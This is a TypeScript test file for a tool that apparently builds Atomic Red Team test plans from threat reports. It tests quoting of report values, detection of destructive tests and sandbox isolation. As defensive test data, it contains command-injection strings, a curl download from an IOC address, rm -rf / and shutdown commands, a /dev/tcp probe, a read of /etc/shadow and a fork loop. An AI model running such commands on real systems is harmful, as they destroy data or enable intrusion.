import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { fillArguments, substitute, type ReportValues } from '../../../src/generate/atomic/fill.js';
import { AtomicLibrary } from '../../../src/generate/atomic/load.js';
import { destructiveReason, missingPayloads } from '../../../src/generate/atomic/hazards.js';
import { quoteContextAt, quoteForPlaceholder, quoteValue } from '../../../src/generate/atomic/quote.js';
import { AtomicFileSchema, AtomicTestSchema, type AtomicTest } from '../../../src/generate/atomic/schema.js';
import { runInSandbox, sandboxAvailable } from '../../../src/generate/sandbox/bwrap.js';
import { hasSharedData, sharedData } from '../../helpers.js';

const test = (over: Partial<AtomicTest> & { executor: AtomicTest['executor'] }): unknown => ({ name: 'n', description: 'd', supported_platforms: ['linux'], ...over });

describe('Atomic schema', () => {
  it('accepts every installed Atomic file', { skip: !hasSharedData }, () => {
    const lib = new AtomicLibrary(join(sharedData, 'atomic-red-team', 'atomics'));
    let tests = 0;
    for (const t of lib.techniques()) tests += lib.testsFor(t).length;
    assert.equal(lib.issues.length, 0, lib.issues.map((i) => i.message).join('\n'));
    assert.equal(tests, 1819);
  });
  it('rejects what upstream\'s validator rejects', () => {
    const bad = (t: unknown, re: RegExp): void => {
      const r = AtomicTestSchema.safeParse(t);
      assert.equal(r.success, false);
      assert.match(r.error!.issues.map((i) => i.message).join('; '), re);
    };
    bad(test({ executor: { name: 'sh', command: 'echo #{x}' } }), /does not declare/);
    bad(test({ input_arguments: { unused: { description: 'd', type: 'string', default: 'a' } }, executor: { name: 'sh', command: 'echo' } }), /never used/);
    bad(test({ executor: { name: 'manual', command: 'x' } }), /steps/);
    bad(test({ executor: { name: 'sh', command: 'sudo id' } }), /elevation_required/);
    bad({ ...(test({ executor: { name: 'sh', command: 'id' } }) as object), extra: 1 }, /Unrecognized key|unrecognized/i);
    assert.equal(AtomicFileSchema.safeParse({ attack_technique: 'T1105', display_name: 'Ingress Tool Transfer', atomic_tests: [test({ executor: { name: 'sh', command: 'id' } })] }).success, true);
  });
});

describe('report values in commands', () => {
  it('knows the quoting context of a placeholder', () => {
    const t = `echo '#{a}' "#{b}" #{c}`;
    assert.equal(quoteContextAt(t, t.indexOf('#{a}'), 'sh'), 'single');
    assert.equal(quoteContextAt(t, t.indexOf('#{b}'), 'sh'), 'double');
    assert.equal(quoteContextAt(t, t.indexOf('#{c}'), 'sh'), 'bare');
    const ps = `Write-Host 'it''s #{a}' "x #{b}"`;
    assert.equal(quoteContextAt(ps, ps.indexOf('#{a}'), 'powershell'), 'single');
    assert.equal(quoteContextAt(ps, ps.indexOf('#{b}'), 'powershell'), 'double');
  });
  it('refuses what it cannot make inert', () => {
    assert.equal(quoteValue('a\nb', 'sh', 'bare', false).ok, false);
    assert.equal(quoteValue('--output=/etc/passwd', 'sh', 'bare', false).ok, false);
    assert.equal(quoteValue('100%&calc', 'command_prompt', 'double', false).ok, false);
    assert.deepEqual(quoteValue("it's", 'powershell', 'single', false), { ok: true, text: "it''s" });
    assert.deepEqual(quoteValue('$x`"', 'powershell', 'double', false), { ok: true, text: '`$x```"' });
  });
  it('hostile values stay one literal argument when the shell runs them', { skip: !sandboxAvailable() }, async () => {
    const hostile = [`a'; touch /tmp/pwned; echo '`, '$(touch /tmp/pwned)', '`touch /tmp/pwned`', '"; touch /tmp/pwned; "', 'x\\"; touch /tmp/pwned #'];
    const templates = ["printf '%s\\n' #{v}", "printf '%s\\n' '#{v}'", 'printf \'%s\\n\' "#{v}"'];
    const phases = [];
    for (const [i, v] of hostile.entries()) {
      for (const [j, t] of templates.entries()) {
        const at = t.indexOf('#{v}');
        const q = quoteForPlaceholder(t, at, at + 4, v, 'sh');
        assert.ok(q.ok);
        phases.push({ name: `p${i}_${j}`, script: t.slice(0, at) + q.text + t.slice(at + 4), shell: 'sh' as const });
      }
    }
    phases.push({ name: 'probe', script: 'test -e /tmp/pwned && echo PWNED || echo clean', shell: 'sh' as const });
    const res = await runInSandbox(phases, { timeoutMs: 20_000 });
    assert.equal(res.status, 'completed');
    const out = new Map(res.phases.map((p) => [p.name, p.output]));
    for (const [i, v] of hostile.entries()) for (const j of templates.keys()) assert.equal(out.get(`p${i}_${j}`), `${v}\n`, `value ${i} in template ${j}`);
    assert.equal(out.get('probe'), 'clean\n');
  });
  it('fills Atomic arguments from the report only when the value stands as is', () => {
    const t = AtomicTestSchema.parse(
      test({
        input_arguments: {
          remote_url: { description: 'u', type: 'url', default: 'https://example.org/a.sh' },
          output_file: { description: 'f', type: 'path', default: '/tmp/a.sh' },
        },
        executor: { name: 'sh', command: 'curl -o #{output_file} "#{remote_url}"' },
      }),
    );
    const values: ReportValues = { urls: [{ value: 'http://evil-cdn.top/$(id)', ref: 'ioc-1' }, { value: 'http://45.1.2.3/ins.sh', ref: 'ioc-2' }], domains: [], ips: [], files: [{ value: "/tmp/a'b.sh", ref: 'ioc-3' }], registry: [], tasks: [], services: [], accounts: [], tools: [] };
    const filled = fillArguments(t, values, 'unix');
    const url = filled.find((a) => a.name === 'remote_url')!;
    assert.equal(url.value, 'http://45.1.2.3/ins.sh');
    assert.match(url.note!, /ioc-1.*not used/);
    const file = filled.find((a) => a.name === 'output_file')!;
    assert.equal(file.from, 'default');
    assert.equal(substitute(t.executor.command!, filled, '/opt/art'), 'curl -o /tmp/a.sh "http://45.1.2.3/ins.sh"');
  });

  it('resolves PathToAtomicsFolder in defaults too, never in report values', () => {
    const t = AtomicTestSchema.parse(
      test({
        input_arguments: {
          payload: { description: 'p', type: 'path', default: 'PathToAtomicsFolder/T1027.002/bin/linux/test_upx' },
          target_url: { description: 'u', type: 'url', default: 'https://example.org/' },
        },
        executor: { name: 'sh', command: "cp #{payload} /tmp/x && curl '#{target_url}'" },
      }),
    );
    const values: ReportValues = { urls: [{ value: 'http://a.example/PathToAtomicsFolder', ref: 'ioc-1' }], domains: [], ips: [], files: [], registry: [], tasks: [], services: [], accounts: [], tools: [] };
    const filled = fillArguments(t, values, 'unix');
    assert.equal(substitute(t.executor.command!, filled, '/opt/art'), "cp /opt/art/T1027.002/bin/linux/test_upx /tmp/x && curl 'http://a.example/PathToAtomicsFolder'");
  });

  it('never fills a port, count or time with a report name or address', () => {
    const t = AtomicTestSchema.parse(
      test({
        input_arguments: {
          remote_host: { description: 'h', type: 'string', default: 'example.org' },
          remote_port: { description: 'p', type: 'string', default: '43' },
          timeout: { description: 't', type: 'integer', default: 1 },
        },
        executor: { name: 'sh', command: 'timeout #{timeout} whois -h #{remote_host} -p #{remote_port} x' },
      }),
    );
    const values: ReportValues = { urls: [], domains: [{ value: 'evil.example', ref: 'ioc-1' }], ips: [], files: [], registry: [], tasks: [], services: [], accounts: [], tools: [] };
    const filled = fillArguments(t, values, 'unix');
    assert.equal(substitute(t.executor.command!, filled, '/opt/art'), 'timeout 1 whois -h evil.example -p 43 x');
  });
});

describe('Atomic hazards', () => {
  it('knows tests that destroy the host, and not those that only mention it', () => {
    const sh = (command: string, description = 'd') => AtomicTestSchema.parse(test({ description, executor: { name: 'sh', command, elevation_required: true } }));
    assert.match(destructiveReason(sh("[ \"$(uname)\" = 'Linux' ] && rm -rf / --no-preserve-root > /dev/null"))!, /root file system/);
    assert.match(destructiveReason(sh('sudo shutdown -r now'))!, /shuts down/);
    assert.match(destructiveReason(sh('echo b > /proc/sysrq-trigger'))!, /kernel/);
    assert.match(destructiveReason(sh('id', 'This test is dangerous and destructive, do NOT use on production equipment.'))!, /description/);
    assert.equal(destructiveReason(sh('rm -rf /tmp/art-folder')), undefined);
    assert.equal(destructiveReason(sh("echo '# KEYWORD: shutdown' >> /etc/rc.d/x")), undefined);
    assert.equal(destructiveReason(sh('$sheet.Cells.Item(23,1) = "=HALT()"')), undefined);
    assert.equal(destructiveReason(sh('id', 'Display a simulated ransom note (non-destructive).')), undefined);
  });

  it('lists payload files that are not installed', () => {
    const t = AtomicTestSchema.parse(test({ executor: { name: 'sh', command: 'python3 PathToAtomicsFolder/T1568.002/src/T1568.002.py; cat PathToAtomicsFolder/../ExternalPayloads/x.bin' } }));
    assert.deepEqual(missingPayloads(t, '/nonexistent'), ['T1568.002/src/T1568.002.py', '../ExternalPayloads/x.bin']);
    assert.deepEqual(missingPayloads(AtomicTestSchema.parse(test({ executor: { name: 'sh', command: 'id' } })), '/nonexistent'), []);
  });

  it('a plan passes over the test that wipes the file system', { skip: !hasSharedData }, () => {
    const lib = new AtomicLibrary(join(sharedData, 'atomic-red-team', 'atomics'));
    const wipe = lib.testsFor('T1070.004').find((r) => /rm -rf \/ --no-preserve-root/.test(r.test.executor.command ?? ''));
    assert.ok(wipe && destructiveReason(wipe.test));
  });
});

describe('sandbox', { skip: !sandboxAvailable() }, () => {
  it('has no network, a throwaway file system, no host secrets and limits', async () => {
    const res = await runInSandbox(
      [
        { name: 'net', shell: 'bash', script: 'exec 3<>/dev/tcp/1.1.1.1/53 2>/dev/null && echo open || echo closed; getent hosts example.org || echo noresolve', },
        { name: 'fs', shell: 'sh', script: 'echo x > /etc/ttpscope-probe && echo written; ls /work 2>&1 | head -1; cat /etc/shadow | head -1; ls /usr/local/bin | tr "\\n" " "; ls /usr/local | wc -l; sudo id -u' },
        { name: 'fork', shell: 'bash', script: 'for i in $(seq 1 400); do sleep 5 & done 2>/dev/null; echo forked' },
      ],
      { timeoutMs: 20_000 },
    );
    assert.equal(res.status, 'completed');
    const out = new Map(res.phases.map((p) => [p.name, p.output]));
    assert.match(out.get('net')!, /noresolve/);
    assert.doesNotMatch(out.get('net')!, /open/);
    assert.match(out.get('fs')!, /written/);
    assert.match(out.get('fs')!, /No such file/);
    assert.match(out.get('fs')!, /root:\*:/);
    // the host's /usr/local (with its tools) is hidden; only our sudo pass-through is there
    assert.match(out.get('fs')!, /\nsudo 1\n0\n$/);
    // nothing leaked out
    assert.equal(existsSync('/etc/ttpscope-probe'), false);
  });
  it('kills a step at its time limit', async () => {
    const t0 = Date.now();
    const res = await runInSandbox([{ name: 'spin', shell: 'sh', script: 'while :; do :; done' }], { timeoutMs: 1500 });
    assert.equal(res.status, 'timeout');
    assert.ok(Date.now() - t0 < 10_000);
  });
});
